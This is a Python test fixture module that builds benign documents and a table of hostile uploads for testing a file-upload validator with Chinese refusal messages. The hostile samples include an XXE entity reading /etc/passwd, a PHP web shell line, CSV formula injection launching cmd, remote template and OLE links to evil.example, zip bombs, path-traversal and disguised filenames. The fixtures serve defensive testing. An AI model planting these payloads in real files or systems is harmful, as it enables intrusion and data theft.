"""Documents as they are sent: good ones of every kind, and those that are not what they seem."""

import io
import re
import struct
import zipfile

from docx import Document
from openpyxl import Workbook

from tests.builders import PDF

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
KINDS = "[Content_Types].xml"
RELS = "word/_rels/document.xml.rels"
PRESENTATION = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def wide(text):
    return text.encode("utf-16-le")


def old(*streams, more=b""):
    """A compound file, as far as it is looked at: its head and the names of its streams."""
    return OLE + bytes(504) + b"".join(wide(name) + bytes(64) for name in streams) + more


def parts_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts, how=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def docx():
    file, document = io.BytesIO(), Document()
    document.add_paragraph("十二月工作提示")
    document.save(file)
    return file.getvalue()


def xlsx():
    file, book = io.BytesIO(), Workbook()
    book.active.append(["党支部", "人数"])
    book.save(file)
    return file.getvalue()


def pptx():
    kinds = f'<Types><Override PartName="/ppt/presentation.xml" ContentType="{PRESENTATION}"/></Types>'
    return packed({KINDS: kinds, "ppt/presentation.xml": "<p/>"})


def with_part(name, content=b"x", source=docx):
    return packed(parts_of(source()) | {name: content})


def changed(part, change):
    parts = parts_of(docx())
    parts[part] = change(parts[part])
    return packed(parts)


def docm():
    return changed(KINDS, lambda xml: xml.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    ))  # fmt: skip


def fetching(kind, target):
    link = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return changed(RELS, lambda xml: xml.replace(b"</Relationships>", link.encode()))


def bomb():
    """300 KB that unpack to 300 MB, in the shape of a docx."""
    return with_part("word/media/image1.bmp", bytes(300 * 1024 * 1024))


def lying_bomb():
    """A part of 30 MB of which the index says that it has ten bytes."""
    content = bytearray(with_part("word/media/image1.bmp", bytes(30 * 1024 * 1024)))
    at = content.rindex(b"word/media/image1.bmp") - 46
    struct.pack_into("<I", content, at + 24, 10)
    return bytes(content)


def many_parts():
    return packed({f"word/{number}.xml": "" for number in range(5000)})


def crowded_index():
    """An index of 2 MB with few entries by its own count."""
    content = bytearray(packed({f"word/{'a' * 60}{number}.xml": "" for number in range(20_000)}))
    struct.pack_into("<HH", content, len(content) - 14, 3, 3)
    return bytes(content)


def overlapping():
    """Sixty entries that share one packed part."""
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "word/media/noise.bin", b"".join(struct.pack("<I", n * 2654435761 % 2**32) for n in range(9999))
        )
        [first] = [part for part in archive.infolist() if part.filename == "word/media/noise.bin"]
        for number in range(60):
            twin = zipfile.ZipInfo(f"word/media/noise{number}.bin")
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(twin, name, getattr(first, name))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return file.getvalue()


def twins():
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a") as archive:
        archive.filelist.append(archive.getinfo("word/document.xml"))
        archive.writestr("word/more.xml", "x")
    return file.getvalue()


def locked():
    content = bytearray(docx())
    for found in re.finditer(rb"PK\x01\x02", content):
        content[found.start() + 8] |= 1
    return bytes(content)


DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\x00\x03" + bytes(60) + b"This program cannot be run in DOS mode."
BOUND_MACRO_SHEET = b"\x85\x00\x0e\x00" + b"\x10\x20\x00\x00" + b"\x00\x01" + b"\x06\x00Macro1"
VBA_INFO = bytes.fromhex("1f00ff0314000000020000040c000000050000000100000002000000")

GOOD = {
    "工作提示.pdf": PDF,
    "工作提示.docx": docx,
    "名单.xlsx": xlsx,
    "课件.pptx": pptx,
    "通知.doc": old("WordDocument"),
    "名单.xls": old("Workbook"),
    "旧名单.xls": old("Book"),
    "课件.ppt": old("PowerPoint Document"),
    "通知.wps": old("WordDocument"),
    "名单.et": old("Workbook"),
    "课件.dps": old("PowerPoint Document"),
    "说明.txt": "按时报送，不走过场。".encode(),
    "旧说明.txt": "按时报送，不走过场。".encode("gb18030"),
    "记事本.txt": "按时报送".encode("utf-16"),
    "名单.csv": "党支部,人数\n一支部,-3\n".encode("utf-8-sig"),
    "附件1.十二月.V1.2.PDF": PDF,
}
# name → content (or what makes it), and how the refusal begins
HOSTILE = {
    "html as pdf": ("提示.pdf", HTML, "文件内容和扩展名不符"),
    "html before pdf": ("提示.pdf", HTML + PDF, "文件内容和扩展名不符"),
    "svg": ("图.svg", SVG, "不能上传这种文件"),
    "svg as pdf": ("图.pdf", SVG, "文件内容和扩展名不符"),
    "svg as txt": ("图.txt", SVG, "这个文本里有网页或程序的代码"),
    "html": ("提示.html", HTML, "不能上传这种文件"),
    "html as csv": ("提示.csv", HTML, "这个文本里有网页或程序的代码"),
    "wide html as txt": ("提示.txt", HTML.decode().encode("utf-16"), "这个文本里有网页或程序的代码"),
    "pdf and archive in one": ("提示.pdf", lambda: PDF + docx(), "这份 PDF 后面夹带着别的文件"),
    "pdf and page in one": ("提示.pdf", PDF + HTML * 100, "这份 PDF 后面夹带着别的文件"),
    "script in pdf": ("提示.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript >>"),
                      "这份 PDF 里有脚本"),
    "program in pdf": ("提示.pdf", PDF.replace(b"/Catalog", b"/Catalog /AA << /S /Launch /F (cmd) >>"),
                       "这份 PDF 里有脚本"),
    "cut pdf": ("提示.pdf", PDF[:40], "这份 PDF 没有传完"),
    "program and docx in one": ("提示.docx", lambda: EXE + docx(), "文件内容和扩展名不符"),
    "something before the index": ("提示.docx", lambda: b"PK\x03\x04" + EXE + docx(), "这个文件里夹带着文档以外"),
    "docx and page in one": ("提示.docx", lambda: docx() + HTML, "打不开这个文件"),
    "docm as docx": ("提示.docx", docm, "这个文件里有宏或控件"),
    "macros in docx": ("提示.docx", lambda: with_part("word/vbaProject.bin"), "这个文件里有宏或控件"),
    "old macros in xlsx": ("表.xlsx", lambda: with_part("xl/macrosheets/sheet1.xml", source=xlsx),
                           "这个文件里有宏或控件"),
    "control in docx": ("提示.docx", lambda: with_part("word/activeX/activeX1.bin"), "这个文件里有宏或控件"),
    "macros within": ("提示.docx", lambda: with_part("word/embeddings/a.bin", old("_VBA_PROJECT")),
                      "这个文件里有宏或控件"),
    "docm within": ("提示.docx", lambda: with_part("word/embeddings/a.docm"), "这个文件里有宏或控件"),
    "program within": ("提示.docx", lambda: with_part("word/embeddings/a.exe", EXE), "这个文件里夹带着文档以外"),
    "entity": ("提示.docx", lambda: with_part("customXml/item1.xml", DOCTYPE), "这个文件里夹带着文档以外"),
    "path in archive": ("提示.docx", lambda: with_part("word/../../x.xml"), "这个文件里夹带着文档以外"),
    "template from afar": ("提示.docx", lambda: fetching("attachedTemplate", "https://evil.example/a.dotm"),
                           "这个文件打开时会到网上"),
    "object from afar": ("提示.docx", lambda: fetching("oleObject", "mhtml:http://evil.example/x!x"),
                         "这个文件打开时会到网上"),
    "docm": ("提示.docm", docm, "不能上传这种文件"),
    "xlsx as docx": ("提示.docx", xlsx, "文件内容和扩展名不符"),
    "archive as docx": ("提示.docx", lambda: packed({"a.txt": "x"}), "文件内容和扩展名不符"),
    "zip": ("提示.zip", lambda: packed({"a.txt": "x"}), "不能上传这种文件"),
    "bomb": ("提示.docx", bomb, "这个文件解开后太大"),
    "bomb that lies": ("提示.docx", lying_bomb, "打不开这个文件"),
    "many parts": ("提示.docx", many_parts, "这个文件解开后太大"),
    "crowded index": ("提示.docx", crowded_index, "这个文件解开后太大"),
    "parts that share": ("提示.docx", overlapping, "这个文件解开后太大"),
    "two parts of a name": ("提示.docx", twins, "这个文件里夹带着文档以外"),
    "locked docx": ("提示.docx", locked, "这个文件设了打开密码"),
    "sealed docx": ("提示.docx", old("EncryptedPackage"), "这个文件设了打开密码"),
    "cut docx": ("提示.docx", lambda: docx()[:-900], "打不开这个文件"),
    "macros in doc": ("提示.doc", old("WordDocument", "_VBA_PROJECT"), "这个文件里有宏或控件"),
    "macro sheet in xls": ("表.xls", old("Workbook", more=BOUND_MACRO_SHEET), "这个文件里有宏或控件"),
    "macros in ppt": ("课件.ppt", old("PowerPoint Document", more=VBA_INFO), "这个文件里有宏或控件"),
    "installer as doc": ("提示.wps", old(more=bytes.fromhex("84100c0000000000c000000000000046")),
                         "文件内容和扩展名不符"),
    "xls as doc": ("提示.doc", old("Workbook"), "文件内容和扩展名不符"),
    "program": ("提示.exe", EXE, "不能上传这种文件"),
    "program as pdf": ("提示.pdf", EXE, "文件内容和扩展名不符"),
    "program as txt": ("提示.txt", EXE, "文件内容和扩展名不符"),
    "two suffixes": ("提示.pdf.exe", PDF, "不能上传这种文件"),
    "two suffixes turned": ("提示.php.pdf", PDF, "文件名里夹着另一种扩展名"),
    "php": ("提示.php", PHP, "不能上传这种文件"),
    "php as txt": ("提示.txt", PHP, "这个文本里有网页或程序的代码"),
    "command in csv": ("表.csv", "名称\n=cmd|'/c calc'!A1\n".encode(), "这份 csv 里有公式"),
    "another command in csv": ("表.csv", "名称,\"+cmd|'/c calc'!A1\"\n".encode(), "这份 csv 里有公式"),
    "nothing": ("提示.pdf", b"", "这个文件是空的"),
    "21 MB": ("提示.pdf", lambda: PDF[:-6] + bytes(21 * 1024 * 1024) + PDF[-6:], "文件超过 20 MB"),
    "300 letters": ("长" * 296 + ".pdf", PDF, "文件名超过 120 个字"),
    "path without suffix": ("../../x", PDF, "不能上传这种文件"),
    "only a suffix": (".pdf", PDF, "不能上传这种文件"),
    "turned to the left": ("提示\u202efdp.exe", PDF, "不能上传这种文件"),
    "endless suffix": ("提示." + "pdf" * 80, PDF, "不能上传这种文件"),
    "no suffix": ("提示", PDF, "不能上传这种文件"),
}  # fmt: skip


def content_of(made):
    return made() if callable(made) else made
